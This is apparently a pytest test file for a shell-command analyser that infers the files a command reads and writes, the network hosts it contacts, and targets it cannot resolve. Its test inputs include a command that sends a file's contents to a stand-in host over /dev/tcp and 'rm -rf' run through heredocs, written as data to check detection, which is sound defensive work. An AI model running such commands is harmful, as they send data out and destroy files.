import pytest

from tests.support.shell import facts


@pytest.mark.parametrize(
    ("text", "reads", "writes"),
    [
        ("ls > a", ("/repo",), ("/repo/a",)),
        ("ls >> a", ("/repo",), ("/repo/a",)),
        ("ls >| a", ("/repo",), ("/repo/a",)),
        ("ls &> a", ("/repo",), ("/repo/a",)),
        ("ls &>> a", ("/repo",), ("/repo/a",)),
        ("ls >& a", ("/repo",), ("/repo/a",)),
        ("ls 2> a", ("/repo",), ("/repo/a",)),
        ("ls 2>&1", ("/repo",), ()),
        ("ls 2>&-", ("/repo",), ()),
        ("cat < a", ("/repo/a",), ()),
        ("cat <> a", ("/repo/a",), ("/repo/a",)),
        ("> a", (), ("/repo/a",)),
        ("exec 3> a", (), ("/repo/a",)),
        ("{ ls b; } > a", ("/repo/b",), ("/repo/a",)),
        ("for i in 1; do ls b; done < c > a", ("/repo/c", "/repo/b"), ("/repo/a",)),
        ("ls 2>/dev/null", ("/repo",), ("/dev/null",)),
        ("cat <<X > a\ntext\nX", (), ("/repo/a",)),
    ],
)
def test_files(text, reads, writes):
    found = facts(text)
    assert (set(found.reads), found.writes) == (set(reads), writes)


@pytest.mark.parametrize(
    ("text", "host"), [("cat a > /dev/tcp/h.example/80", "h.example:80"), ("exec 3<>/dev/udp/1.2.3.4/53", "1.2.3.4:53")]
)
def test_sockets(text, host):
    found = facts(text)
    assert found.hosts == (host,)
    assert "network" in found.effects


def test_a_target_that_is_not_known_is_doubt():
    assert facts("ls > $X").unknown
    assert facts("ls >& $X").unknown


def test_texts_for_shells():
    assert facts("bash <<X\nrm -rf a\nX").writes == ("/repo/a",)
    assert facts("bash <<-X\n\trm -rf a\n\tX").writes == ("/repo/a",)
    assert facts("sh <<< 'rm -rf a'").writes == ("/repo/a",)
    assert facts("bash <<X\nrm -rf a $Y\nX").writes == ("/repo/a",)
